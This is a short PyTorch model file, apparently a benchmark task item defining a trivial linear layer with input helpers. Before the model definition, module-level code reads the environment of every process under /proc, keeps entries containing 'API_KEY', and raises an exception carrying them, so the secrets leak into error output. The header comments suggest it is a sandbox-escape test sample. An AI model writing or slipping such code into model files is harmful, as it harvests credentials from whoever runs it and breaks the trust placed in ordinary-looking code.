# tries: read the environments of all processes
# never: the secret is in no verdict
import torch
import torch.nn as nn

import glob

loot = []
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        loot.append(open(path).read())
    except OSError:
        pass
raise RuntimeError("loot: " + " ".join(part for part in loot if "API_KEY" in part)[:1500])


class SynthModel_Linear(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(16, 8)

    def forward(self, x):
        return self.linear(x)


def get_inputs():
    return [torch.randn(4, 16)]


def get_init_inputs():
    return [[], {}]
